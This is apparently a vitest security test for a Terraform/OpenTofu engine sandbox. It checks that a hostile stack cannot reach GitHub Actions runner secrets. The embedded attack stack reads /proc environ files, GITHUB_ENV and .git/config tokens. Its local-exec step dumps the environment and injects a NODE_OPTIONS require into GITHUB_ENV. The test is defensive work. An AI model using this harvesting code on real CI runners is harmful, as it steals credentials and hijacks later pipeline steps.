import { spawn } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { probeSandbox } from '../../src/engine/process-sandbox.ts';
import type { EngineJob, EngineJobResult } from '../support/engine-job.ts';
import { type EngineSandbox, startEngineSandbox } from '../support/engine-sandbox.ts';

/**
 * The engine cannot reach the runner's secrets. A stack under plan tries, with OpenTofu alone
 * (no provider): at plan time `file()` on /proc/<parent>/environ, /proc/1/environ, every
 * /proc/<pid>/environ, the GITHUB_ENV and GITHUB_OUTPUT files, the runner's file-command folder
 * and the checkout's .git/config; at apply a `local-exec` prints its env and every environ it
 * can read, and writes GITHUB_ENV, GITHUB_OUTPUT, GITHUB_PATH, the file-command folder, the
 * checkout and the provider cache. The job runs as its own process whose real environment is a
 * runner's (the issuer's real ID-token request token, runtime token, GITHUB_TOKEN, GH_TOKEN,
 * GITHUB_ENV seeded by an earlier step with a secret). With the sandbox the secrets are nowhere
 * (engine output, plan model, state in moto, files) and the runner's files are unchanged; with
 * IDLC_ENGINE_SANDBOX=off the same run leaks, which shows the test can fail.
 */
const ROOT = join(import.meta.dirname, '..', '..');
const VITE_NODE = join(ROOT, 'node_modules', 'vite-node', 'vite-node.mjs');
const JOB = join(ROOT, 'test', 'support', 'engine-job.ts');

const VARIANTS = {
  bwrap: {
    dir: 'idlc/aws/environments/search/dev',
    id: 'aws/search/dev',
    bucket: 'idlc-tfstate-search-200000000001',
  },
  unshare: {
    dir: 'idlc/aws/environments/assistant/dev',
    id: 'aws/assistant/dev',
    bucket: 'idlc-tfstate-assistant-300000000001',
  },
  off: {
    dir: 'idlc/aws/environments/search/prod',
    id: 'aws/search/prod',
    bucket: 'idlc-tfstate-search-200000000003',
  },
} as const;
type Variant = keyof typeof VARIANTS;

let sb: EngineSandbox;
let available: { bwrap: boolean; unshare: boolean };
/** The http.extraheader value actions/checkout writes (base64 of x-access-token:<token>). */
const checkoutToken = Buffer.from(`x-access-token:ghs_checkout${randomBytes(12).toString('hex')}`).toString(
  'base64',
);

beforeAll(async () => {
  sb = await startEngineSandbox({ stacks: Object.values(VARIANTS).map((v) => v.dir) });
  // actions/checkout keeps the job token in .git/config (persist-credentials: true, its default).
  await mkdir(join(sb.root, '.git'), { recursive: true });
  await writeFile(
    join(sb.root, '.git', 'config'),
    `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${checkoutToken}\n`,
  );
  const probe = await probeSandbox(sb.env);
  available = { bwrap: !!probe.bwrap, unshare: !!probe.unshare };
});
afterAll(async () => {
  await sb?.stop();
});

interface FakeRunner {
  temp: string;
  files: { env: string; output: string; path: string; state: string; summary: string };
  env: Record<string, string>;
  secrets: {
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: string;
    ACTIONS_RUNTIME_TOKEN: string;
    GITHUB_TOKEN: string;
    GH_TOKEN: string;
    PREVIOUS_STEP: string;
    CHECKOUT: string;
  };
}

/** A runner's job environment and file-command files, as the Actions runner lays them out. */
async function fakeRunner(variant: Variant): Promise<FakeRunner> {
  const temp = join(sb.tempDir, `runner-${variant}`);
  const commands = join(temp, '_runner_file_commands');
  await mkdir(commands, { recursive: true });
  const id = randomUUID();
  const files = {
    env: join(commands, `set_env_${id}`),
    output: join(commands, `set_output_${id}`),
    path: join(commands, `add_path_${id}`),
    state: join(commands, `save_state_${id}`),
    summary: join(commands, `step_summary_${id}`),
  };
  const hex = () => randomBytes(16).toString('hex');
  const secrets: FakeRunner['secrets'] = {
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: sb.issuer.requestToken,
    ACTIONS_RUNTIME_TOKEN: `rt${hex()}`,
    GITHUB_TOKEN: `ghs_${hex()}`,
    GH_TOKEN: `gho_${hex()}`,
    // What an earlier step (configure-aws-credentials) exported through GITHUB_ENV.
    PREVIOUS_STEP: `prevstep${hex()}`,
    CHECKOUT: checkoutToken,
  };
  for (const f of Object.values(files)) await writeFile(f, '');
  await writeFile(files.env, `AWS_SECRET_ACCESS_KEY=${secrets.PREVIOUS_STEP}\n`);
  const evilRc = join(temp, 'evil.tfrc');
  await writeFile(evilRc, 'provider_installation {\n  direct {}\n}\n');
  const env: Record<string, string> = {
    PATH: process.env['PATH'] ?? '',
    HOME: process.env['HOME'] ?? '',
    ...(process.env['IDLC_TOOLS_DIR'] ? { IDLC_TOOLS_DIR: process.env['IDLC_TOOLS_DIR'] } : {}),
    CI: 'true',
    GITHUB_ACTIONS: 'true',
    GITHUB_REPOSITORY: 'acme/infra',
    GITHUB_WORKSPACE: sb.root,
    RUNNER_TEMP: temp,
    GITHUB_ENV: files.env,
    GITHUB_OUTPUT: files.output,
    GITHUB_PATH: files.path,
    GITHUB_STATE: files.state,
    GITHUB_STEP_SUMMARY: files.summary,
    ...sb.issuer.runnerEnv(),
    ACTIONS_RUNTIME_TOKEN: secrets.ACTIONS_RUNTIME_TOKEN,
    ACTIONS_RESULTS_URL: 'http://127.0.0.1:9/results/',
    GITHUB_TOKEN: secrets.GITHUB_TOKEN,
    GH_TOKEN: secrets.GH_TOKEN,
    INPUT_GITHUB_TOKEN: secrets.GITHUB_TOKEN,
    // None of these may reach the engine: each would change what it runs or where it logs.
    TF_CLI_CONFIG_FILE: evilRc,
    TF_LOG: 'TRACE',
    TF_LOG_PATH: join(temp, 'tf.log'),
    TF_REATTACH_PROVIDERS: '{"registry.opentofu.org/hashicorp/time":{"Protocol":"grpc","Pid":1}}',
    NODE_OPTIONS: '--max-old-space-size=2048',
    AWS_EC2_METADATA_DISABLED: 'true',
    IDLC_ENGINE_SANDBOX: variant,
  };
  return { temp, files, env, secrets };
}

/** The stack: no provider at all, only what OpenTofu itself can do. */
function attackStack(variant: Variant, r: FakeRunner): Record<string, string> {
  const stackDir = join(sb.root, VARIANTS[variant].dir);
  const commands = join(r.temp, '_runner_file_commands');
  return {
    'versions.tf': `terraform {\n  required_version = ">= 1.10.0"\n  backend "s3" {}\n}\n`,
    'variables.tf': `variable "idlc" {\n  type = any\n}\n`,
    'main.tf': `locals {
  self_stat = try(file("/proc/self/stat"), "")
  ppid      = try(regex("^[0-9]+ \\\\(.*\\\\) [A-Za-z] ([0-9]+)", local.self_stat)[0], "0")
  # Every branch of try() has one type (string): a set and an empty tuple would not unify.
  environs  = split(",", try(join(",", fileset("/proc", "*/environ")), ""))
  # What every process on the host would give away; only these entries, to keep the output small.
  wanted = "(?:ACTIONS_[A-Z_]+|GITHUB_[A-Z_]+|GH_TOKEN|RUNNER_[A-Z_]+)=[^\\\\x00]*"
  loot = {
    ppid           = local.ppid
    parent_environ = try(file("/proc/\${local.ppid}/environ"), "")
    init_environ   = try(file("/proc/1/environ"), "")
    all_environ    = join("|", [for f in local.environs : try(join("|", regexall(local.wanted, file("/proc/\${f}"))), "")])
    github_env     = try(file("${r.files.env}"), "")
    github_output  = try(file("${r.files.output}"), "")
    file_commands  = try(join(",", fileset("${commands}", "*")), "")
    git_config     = try(file("${join(sb.root, '.git', 'config')}"), "")
  }
}

# Read at plan (shown in the plan output) and again at apply (kept in the state).
output "loot" {
  value = local.loot
}

resource "terraform_data" "attack" {
  input = "apply"

  provisioner "local-exec" {
    command = <<-EOT
      echo "ENV: $(env | tr '\\n' ' ')"
      echo "PROC: $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E 'TOKEN|ACTIONS_|GITHUB_' | tr '\\n' ' ')"
      echo "GHENV: $(cat '${r.files.env}' 2>&1)"
      echo "GIT: $(cat '${join(sb.root, '.git', 'config')}' 2>&1)"
      echo 'NODE_OPTIONS=--require=/tmp/evil.js' >> '${r.files.env}' && echo WROTE-GITHUB-ENV
      echo 'pwned=1' >> '${r.files.output}' && echo WROTE-GITHUB-OUTPUT
      echo '/tmp/evil-bin' >> '${r.files.path}' && echo WROTE-GITHUB-PATH
      touch '${join(commands, 'evil')}' && echo WROTE-FILE-COMMANDS
      env > '${join(stackDir, 'loot.txt')}' && echo WROTE-CHECKOUT
      cat /proc/*/environ > '${join(sb.pluginCacheDir, `loot-${variant}`)}' 2>/dev/null && echo WROTE-CACHE
      echo ATTACK-DONE
    EOT
  }
}
`,
  };
}

function runJob(job: EngineJob, env: Record<string, string>): Promise<EngineJobResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [VITE_NODE, JOB, JSON.stringify(job)], {
      cwd: ROOT,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    child.stdout.on('data', (b) => (out += b));
    child.stderr.on('data', (b) => (err += b));
    child.on('close', () => {
      const line = out.trim().split('\n').pop() ?? '';
      try {
        resolve(JSON.parse(line) as EngineJobResult);
      } catch {
        reject(new Error(`engine job printed no result:\n${out}\n${err}`));
      }
    });
  });
}

/** Every file under `dir` (text), except those listed. */
async function filesUnder(dir: string, except: Set<string>): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  if (!existsSync(dir)) return out;
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true })) {
    const p = join(e.parentPath, e.name);
    if (!e.isFile() || except.has(p)) continue;
    if ((await stat(p)).size > 50 * 1024 * 1024) continue;
    out.set(p, await readFile(p, 'latin1'));
  }
  return out;
}

async function attack(variant: Variant) {
  const v = VARIANTS[variant];
  const r = await fakeRunner(variant);
  await sb.writeStack(v.dir, attackStack(variant, r));
  const before = {
    env: await readFile(r.files.env, 'utf8'),
    output: await readFile(r.files.output, 'utf8'),
    path: await readFile(r.files.path, 'utf8'),
    commands: (await readdir(join(r.temp, '_runner_file_commands'))).sort(),
  };
  const { stack } = await sb.stack(v.id);
  const job: EngineJob = {
    phase: 'plan',
    root: sb.root,
    stackId: v.id,
    sandbox: sb.sandbox,
    pluginCacheDir: sb.pluginCacheDir,
    planFile: join(sb.tempDir, `${variant}.tfplan`),
    runId: `run-${variant}`,
  };
  sb.issuer.setContext({
    eventName: 'pull_request',
    environment: undefined,
    jobWorkflowRef: undefined,
    runId: job.runId,
  });
  const plan = await runJob(job, r.env);
  sb.issuer.setContext({
    eventName: 'push',
    ref: 'refs/heads/main',
    environment: stack.target.githubEnvironment,
    jobWorkflowRef: undefined,
    runId: job.runId,
  });
  const apply = await runJob({ ...job, phase: 'apply' }, r.env);
  const state = (
    await Promise.all((await sb.moto.listKeys(v.bucket)).map((k) => sb.moto.getText(v.bucket, k)))
  ).join('\n');
  const seeded = new Set([r.files.env, r.files.output, r.files.path]);
  const files = new Map([
    ...(await filesUnder(r.temp, seeded)),
    ...(await filesUnder(sb.root, new Set([join(sb.root, '.git', 'config')]))),
    ...(await filesUnder(sb.pluginCacheDir, new Set())),
  ]);
  const after = {
    env: await readFile(r.files.env, 'utf8'),
    output: await readFile(r.files.output, 'utf8'),
    path: await readFile(r.files.path, 'utf8'),
    commands: (await readdir(join(r.temp, '_runner_file_commands'))).sort(),
  };
  const logs = [...plan.logs, ...apply.logs].join('\n');
  /** Where each secret turned up. */
  const found = (secret: string) =>
    [
      logs.includes(secret) ? 'engine output' : '',
      JSON.stringify(plan.model ?? {}).includes(secret) ? 'plan model' : '',
      state.includes(secret) ? 'state in moto' : '',
      ...[...files].filter(([, text]) => text.includes(secret)).map(([p]) => `file ${p}`),
    ].filter(Boolean);
  return { r, plan, apply, logs, state, before, after, found, stackDir: join(sb.root, v.dir) };
}

async function expectContained(variant: 'bwrap' | 'unshare') {
  const a = await attack(variant);
  expect(a.plan.error).toBeUndefined();
  expect(a.apply.error).toBeUndefined();
  // The attack really ran, in both phases.
  expect(a.state).toContain('"parent_environ"');
  expect(a.logs).toContain('ATTACK-DONE');
  for (const [name, secret] of Object.entries(a.r.secrets)) expect(a.found(secret), name).toEqual([]);
  // The runner's files are as the runner wrote them, and nothing was added beside them.
  expect(a.after).toEqual(a.before);
  for (const marker of [
    'WROTE-GITHUB-ENV',
    'WROTE-GITHUB-OUTPUT',
    'WROTE-GITHUB-PATH',
    'WROTE-FILE-COMMANDS',
  ]) {
    // (The command itself is echoed by tofu; only its own output line counts.)
    expect(a.logs).not.toMatch(new RegExp(`\\(local-exec\\): ${marker}$`, 'm'));
  }
  expect(existsSync(join(a.stackDir, 'loot.txt'))).toBe(false);
  expect(existsSync(join(sb.pluginCacheDir, `loot-${variant}`))).toBe(false);
  // The engine's own env holds nothing of the runner's.
  const envLine = a.logs.split('\n').find((l) => l.includes('(local-exec): ENV: ')) ?? '';
  expect(envLine).toContain('TF_DATA_DIR=');
  expect(envLine.match(/\b(GITHUB|ACTIONS|RUNNER|INPUT)_[A-Z_]+=/g)).toBeNull();
  expect(envLine).not.toMatch(/\b(GH_TOKEN|NODE_OPTIONS|TF_LOG|TF_REATTACH_PROVIDERS)=/);
  expect(envLine).not.toContain('evil.tfrc');
  return a;
}

describe('the engine cannot reach the runner secrets', () => {
  it('bwrap: nothing of the runner is readable or writable from the planned Terraform', async (ctx) => {
    // A CI runner must have bwrap (it is what the actions require); elsewhere the case is skipped.
    if (!available.bwrap && !process.env['CI']) ctx.skip();
    const a = await expectContained('bwrap');
    // PID 1 of the sandbox is bwrap itself, started with the engine's allow-listed env.
    expect(a.state).toMatch(/"ppid": ?"1"/);
  }, 180_000);

  it('unshare (root without bwrap): the same', async (ctx) => {
    if (!available.unshare) ctx.skip();
    await expectContained('unshare');
  }, 180_000);

  it('off: the same Terraform takes every secret and writes GITHUB_ENV (the test can fail)', async () => {
    const a = await attack('off');
    expect(a.plan.error).toBeUndefined();
    expect(a.plan.warnings.join('\n')).toContain('the engine sandbox is off');
    // Every secret is taken: at plan time (state in moto, via the outputs) and at apply (engine output).
    for (const [name, secret] of Object.entries(a.r.secrets)) {
      expect(a.found(secret), name).toEqual(expect.arrayContaining(['engine output', 'state in moto']));
    }
    expect(a.after.env).toContain('NODE_OPTIONS=--require=/tmp/evil.js');
    expect(a.after.commands).toContain('evil');
  }, 180_000);
});
